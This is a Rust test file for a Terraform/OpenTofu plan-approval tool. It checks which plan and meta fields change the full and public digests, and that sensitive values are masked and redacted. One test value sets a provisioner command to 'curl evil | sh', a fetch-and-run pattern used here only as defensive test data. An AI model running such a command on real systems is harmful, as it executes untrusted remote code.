@@ -1,0 +1,324 @@
+//! What changes a digest, what does not, and what nobody can learn from the public one.
+
+use countersign_plan::Plan;
+use countersign_plan::digest::{Absent, CanonicalForm, Digests, Meta, canonical, digests};
+use countersign_plan::redact::redact;
+use serde_json::{Value, json};
+
+fn vector(name: &str) -> Value {
+    let path = format!("{}/tests/vectors/{name}", env!("CARGO_MANIFEST_DIR"));
+    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
+}
+
+fn read(json: &Value) -> Plan {
+    Plan::read(json.to_string().into_bytes()).unwrap()
+}
+
+fn meta(json: &Value) -> Meta {
+    Meta::parse(&json.to_string()).unwrap()
+}
+
+fn of(plan: &Value) -> Digests {
+    digests(&read(plan), Some(&meta(&vector("full.meta.json"))))
+}
+
+/// Changes one place of the plan, which must be there.
+fn with(path: &str, value: Value) -> Value {
+    let mut plan = vector("full.plan.json");
+    let place = plan.pointer_mut(path).unwrap_or_else(|| panic!("{path}"));
+    assert_ne!(*place, value, "{path} is changed");
+    *place = value;
+    plan
+}
+
+fn counts(path: &str, value: Value) {
+    let (before, after) = (of(&vector("full.plan.json")), of(&with(path, value)));
+    assert_ne!(before.full, after.full, "{path} counts in the full digest");
+    assert_ne!(before.public, after.public, "{path} counts in the public digest");
+}
+
+fn hidden(path: &str, value: Value) {
+    let (before, after) = (of(&vector("full.plan.json")), of(&with(path, value)));
+    assert_ne!(before.full, after.full, "{path} counts in the full digest");
+    assert_eq!(before.public, after.public, "{path} is not in the public digest");
+    assert_eq!(before.masked, after.masked, "{path}");
+}
+
+fn ignored(path: &str, value: Value) {
+    let (before, after) = (of(&vector("full.plan.json")), of(&with(path, value)));
+    assert_eq!((before.full, before.public), (after.full, after.public), "{path} counts in no digest");
+    assert_ne!(before.file, after.file);
+}
+
+#[test]
+fn what_decides_an_apply_counts_in_both_digests() {
+    for (path, value) in [
+        ("/configuration/root_module/resources/0/provisioners/0/expressions/command/constant_value", json!("curl evil | sh")),
+        ("/configuration/root_module/resources/0/provisioners/0/type", json!("remote-exec")),
+        ("/configuration/provider_config/aws/expressions/region/constant_value", json!("us-east-1")),
+        ("/configuration/provider_config/aws/expressions/assume_role/0/role_arn/constant_value", json!("arn:aws:iam::2:role/x")),
+        ("/configuration/root_module/module_calls/db/source", json!("git::https://example.com/db?ref=v2")),
+        ("/configuration/root_module/module_calls/db/expressions/size/constant_value", json!(20)),
+        ("/configuration/root_module/variables/env/default", json!("prod")),
+        ("/terraform_version", json!("1.11.5")),
+        ("/resource_changes/0/address", json!("aws_instance.other")),
+        ("/resource_changes/0/provider_name", json!("registry.opentofu.org/hashicorp/aws")),
+        ("/resource_changes/0/change/actions", json!(["create", "delete"])),
+        ("/resource_changes/0/action_reason", json!("replace_by_request")),
+        ("/resource_changes/0/change/replace_paths", json!([["ami"], ["tags"]])),
+        ("/resource_changes/0/change/after/ami", json!("ami-3")),
+        ("/resource_changes/0/change/after/type", json!("m5.large")),
+        ("/resource_changes/0/change/before/id", json!("i-2")),
+        ("/resource_changes/0/change/after_unknown/arn", json!(false)),
+        ("/resource_changes/1/change/after/size", json!(11)),
+        ("/resource_changes/1/change/after_sensitive/size", json!(true)),
+        ("/resource_changes/2/deposed", json!("0000000b")),
+        ("/resource_changes/2/change/before/id", json!("vol-2")),
+        ("/resource_changes/3/previous_address", json!("aws_eip.older")),
+        ("/resource_changes/4/change/importing/id", json!("other")),
+        ("/output_changes/url/after", json!("https://b.example")),
+        ("/checks/0/status", json!("fail")),
+        ("/complete", json!(false)),
+        ("/errored", json!(true)),
+        ("/action_invocations/0/config_values/function_name", json!("g")),
+        ("/action_invocations/0/lifecycle_action_trigger/action_trigger_event", json!("BeforeCreate")),
+        ("/deferred_changes/0/reason", json!("unknown")),
+        ("/deferred_changes/0/resource_change/address", json!("aws_instance.later[\"*\"]")),
+    ] {
+        counts(path, value);
+    }
+}
+
+#[test]
+fn what_the_meta_file_states_counts_and_where_it_comes_from_does_not() {
+    let plan = read(&vector("full.plan.json"));
+    let stated = vector("full.meta.json");
+    let first = digests(&plan, Some(&meta(&stated)));
+    assert!(first.approvable());
+    for (path, value, decides) in [
+        ("/repository_id", json!(43), true),
+        ("/project", json!("other"), true),
+        ("/dir", json!("infra/other"), true),
+        ("/workspace", json!("prod"), true),
+        ("/inputs/var_files", json!(["b.tfvars"]), true),
+        ("/inputs/backend_files", json!(["b.hcl"]), true),
+        ("/inputs/environment", json!(["TF_VAR_b"]), true),
+        ("/tool", json!("opentofu"), true),
+        ("/mode/kind", json!("destroy"), true),
+        ("/mode/targets", json!(["aws_instance.web"]), true),
+        ("/mode/replace", json!(["aws_instance.web"]), true),
+        ("/backend/type", json!("oss"), true),
+        ("/backend/settings/bucket", json!("other"), true),
+        ("/backend/settings/key", json!("other"), true),
+        ("/providers/registry.terraform.io~1hashicorp~1aws", json!("5.1.1"), true),
+        ("/head", json!("1".repeat(40)), false),
+        ("/base", json!("1".repeat(40)), false),
+        ("/merge", json!("1".repeat(40)), false),
+        ("/tree", json!("1".repeat(40)), false),
+        ("/run/id", json!(8), false),
+        ("/run/attempt", json!(3), false),
+        ("/working_directory", json!("/elsewhere"), false),
+    ] {
+        let mut changed = stated.clone();
+        *changed.pointer_mut(path).unwrap_or_else(|| panic!("{path}")) = value;
+        if path == "/backend/type" {
+            changed.pointer_mut("/backend/settings").unwrap().as_object_mut().unwrap().remove("workspace_key_prefix");
+        }
+        let other = digests(&plan, Some(&meta(&changed)));
+        assert_eq!(first.full != other.full, decides, "{path} in the full digest");
+        assert_eq!(first.public != other.public, decides, "{path} in the public digest");
+    }
+}
+
+#[test]
+fn what_only_repeats_or_tells_when_counts_in_no_digest() {
+    ignored("/timestamp", json!("2030-01-01T00:00:00Z"));
+    ignored("/prior_state", json!({"values": 1}));
+    ignored("/planned_values", json!({"root_module": {}}));
+    ignored("/resource_drift/0/change/after/type", json!("t3.large"));
+    ignored("/relevant_attributes", json!([]));
+    // An update is told by what it changes, a pure no-op not at all, a delete by its id.
+    ignored("/resource_changes/5/change/after/name", json!("elsewhere"));
+    ignored("/resource_changes/2/change/before/size", json!(9));
+}
+
+#[test]
+fn no_masked_value_changes_the_public_digest() {
+    for value in [json!("x"), json!("a much longer value, with \"quotes\""), json!(7), json!({"a": [1]}), json!(["b"])] {
+        for path in [
+            // Marked in the plan.
+            "/resource_changes/0/change/before/user_data",
+            "/resource_changes/0/change/after/user_data",
+            "/resource_changes/1/change/before/login",
+            "/resource_changes/1/change/after/login",
+            "/output_changes/hidden/before",
+            "/output_changes/hidden/after",
+            "/action_invocations/0/config_values/payload",
+            // The same values in the configuration.
+            "/configuration/root_module/resources/0/expressions/user_data/constant_value",
+            "/configuration/root_module/variables/marked/default",
+            "/configuration/root_module/variables/once/default",
+            "/configuration/root_module/variables/handed_on/default",
+            "/configuration/root_module/variables/to_attribute/default",
+            "/configuration/root_module/module_calls/db/expressions/marked/constant_value",
+            "/configuration/root_module/module_calls/db/module/variables/marked/default",
+            "/configuration/root_module/outputs/hidden/expression/constant_value",
+            // Values of variables, whatever they are.
+            "/variables/env/value",
+            "/variables/marked/value",
+        ] {
+            hidden(path, value.clone());
+        }
+    }
+    for value in [json!("x"), json!("a much longer value"), json!(7)] {
+        for path in [
+            // Under the name of a credential.
+            "/resource_changes/1/change/after/db_password",
+            "/resource_changes/1/change/after/environment/0/value",
+            "/configuration/provider_config/aws/expressions/secret_key/constant_value",
+            "/configuration/root_module/resources/0/expressions/password_wo/constant_value",
+            "/configuration/root_module/resources/0/provisioners/0/expressions/environment/constant_value/API_TOKEN",
+            "/output_changes/api_key/after",
+        ] {
+            hidden(path, value.clone());
+        }
+    }
+}
+
+#[test]
+fn json_inside_strings_is_masked_by_name() {
+    let inside = |password: &str, host: &str| json!(json!({"password": password, "host": host}).to_string());
+    hidden("/resource_changes/1/change/after/settings", inside("other", "h"));
+    counts("/resource_changes/1/change/after/settings", inside("first", "elsewhere"));
+}
+
+#[test]
+fn whether_a_masked_value_changes_is_not_in_the_public_digest() {
+    let plan = vector("full.plan.json");
+    let before = plan.pointer("/resource_changes/1/change/before/login").unwrap().clone();
+    hidden("/resource_changes/1/change/after/login", before);
+}
+
+#[test]
+fn the_text_of_the_public_form_holds_no_masked_value_and_that_of_the_full_form_does() {
+    let (plan, meta) = (read(&vector("full.plan.json")), meta(&vector("full.meta.json")));
+    let (full, public) = (canonical(&plan, Some(&meta), CanonicalForm::Full), canonical(&plan, Some(&meta), CanonicalForm::Public));
+    assert!(full.matches("hunter").count() > 10, "{full}");
+    assert!(!public.contains("hunter"), "{public}");
+    assert_eq!(public.matches("masked").count(), of(&vector("full.plan.json")).masked, "the vector uses the word nowhere else");
+}
+
+#[test]
+fn keys_blanks_and_the_order_of_changes_do_not_count() {
+    let plan = vector("full.plan.json");
+    let compact = of(&plan);
+    let pretty = Plan::read(serde_json::to_string_pretty(&plan).unwrap().into_bytes()).unwrap();
+    let meta = meta(&vector("full.meta.json"));
+    assert_eq!(digests(&pretty, Some(&meta)).full, compact.full);
+    let mut reversed = String::from("{");
+    for (key, value) in plan.as_object().unwrap().iter().rev() {
+        reversed.push_str(&format!("{}: {value},\n", json!(key)));
+    }
+    reversed.truncate(reversed.len() - 2);
+    reversed.push('}');
+    let reversed = digests(&Plan::read(reversed.into_bytes()).unwrap(), Some(&meta));
+    assert_eq!((reversed.full, reversed.public), (compact.full, compact.public));
+    let mut turned = plan;
+    turned["resource_changes"].as_array_mut().unwrap().reverse();
+    assert_eq!(of(&turned).full, compact.full);
+}
+
+#[test]
+fn numbers_count_as_they_are_written() {
+    let text = vector("full.plan.json").to_string();
+    assert!(text.contains("\"ratio\":0.1,"), "{text}");
+    let other = Plan::read(text.replace("\"ratio\":0.1,", "\"ratio\":0.10,").into_bytes()).unwrap();
+    assert_ne!(digests(&other, None).public, digests(&Plan::read(text.into_bytes()).unwrap(), None).public);
+}
+
+#[test]
+fn without_a_meta_file_the_digest_says_what_is_absent_and_cannot_be_approved() {
+    let plan = read(&vector("full.plan.json"));
+    let alone = digests(&plan, None);
+    assert!(!alone.approvable());
+    assert_eq!(alone.absent, [
+        Absent::Repository, Absent::Project, Absent::Dir, Absent::Workspace, Absent::Inputs, Absent::Tool, Absent::Mode,
+        Absent::Backend, Absent::Providers,
+    ]);
+    assert!(canonical(&plan, None, CanonicalForm::Public).contains("\"workspace\":absent}"));
+    // A workspace that is called so is another thing.
+    let mut stated = vector("full.meta.json");
+    stated["workspace"] = json!("absent");
+    let named = canonical(&plan, Some(&meta(&stated)), CanonicalForm::Public);
+    assert!(named.contains("\"workspace\":\"absent\"}"));
+    for field in ["repository_id", "project", "dir", "workspace", "inputs", "tool", "mode", "backend", "providers"] {
+        let mut stated = vector("full.meta.json");
+        stated.as_object_mut().unwrap().remove(field).unwrap();
+        let digests = digests(&plan, Some(&meta(&stated)));
+        assert_eq!(digests.absent.len(), 1, "{field}");
+        assert!(!digests.approvable(), "{field}");
+    }
+}
+
+#[test]
+fn two_different_versions_of_the_tool_are_no_version() {
+    let mut stated = vector("full.meta.json");
+    stated["version"] = json!("1.0.0");
+    let digests = digests(&read(&vector("full.plan.json")), Some(&meta(&stated)));
+    assert_eq!(digests.absent, [Absent::Version]);
+    assert!(!digests.approvable());
+}
+
+#[test]
+fn a_part_that_is_not_known_counts_is_named_and_cannot_be_approved() {
+    let mut plan = vector("full.plan.json");
+    plan["brand_new_key"] = json!({"what": "hunter0"});
+    plan["resource_changes"][0]["change"]["also_new"] = json!("hunter1");
+    let (known, new) = (of(&vector("full.plan.json")), of(&plan));
+    assert_ne!(known.full, new.full);
+    assert_ne!(known.public, new.public);
+    assert_eq!(new.unread, ["brand_new_key", "resource_changes[].change.also_new"]);
+    assert!(known.approvable() && !new.approvable());
+    let redacted = redact(&read(&plan));
+    assert!(!redacted.contains("hunter"), "nobody knows what may be shown of it: {redacted}");
+    assert_eq!(digests(&Plan::read(redacted.into_bytes()).unwrap(), Some(&meta(&vector("full.meta.json")))).public, new.public);
+}
+
+#[test]
+fn redaction_leaves_no_masked_value_and_keeps_the_public_digest() {
+    let plan = read(&vector("full.plan.json"));
+    let meta = meta(&vector("full.meta.json"));
+    let text = redact(&plan);
+    assert!(!text.contains("hunter"), "{text}");
+    let value: Value = serde_json::from_str(&text).unwrap();
+    assert!(value.get("prior_state").is_none() && value.get("planned_values").is_none());
+    assert_eq!(value["variables"]["env"], json!({}));
+    assert_eq!(value["resource_changes"][1]["change"]["after"]["db_password"], json!("(sensitive value)"));
+    assert_eq!(value["resource_changes"][1]["change"]["after"]["size"], json!(10));
+    let again = Plan::read(text.clone().into_bytes()).unwrap();
+    assert_eq!(digests(&again, Some(&meta)).public, digests(&plan, Some(&meta)).public);
+    assert_ne!(digests(&again, Some(&meta)).full, digests(&plan, Some(&meta)).full);
+    assert_eq!(redact(&again), text, "redaction of a redacted plan changes nothing");
+}
+
+#[test]
+fn a_plan_without_changes_stays_a_plan_when_redacted() {
+    let plan = read(&json!({"format_version": "1.2", "planned_values": {"root_module": {}}, "provider_schemas": {}}));
+    let again = Plan::read(redact(&plan).into_bytes()).unwrap();
+    assert_eq!(digests(&again, None).public, digests(&plan, None).public);
+}
+
+#[test]
+fn a_value_that_looks_like_the_marker_is_told_from_a_masked_one() {
+    // The attribute is not marked: its text counts like any other.
+    counts("/resource_changes/1/change/after/note", json!("(sensitive value)"));
+    counts("/resource_changes/1/change/after/note", json!("masked"));
+}
+
+#[test]
+fn full_and_public_digests_never_meet() {
+    let plan = read(&json!({"format_version": "1.2", "resource_changes": []}));
+    let digests = digests(&plan, None);
+    assert_eq!(digests.masked, 0);
+    assert_ne!(digests.full.0, digests.public.0);
+}
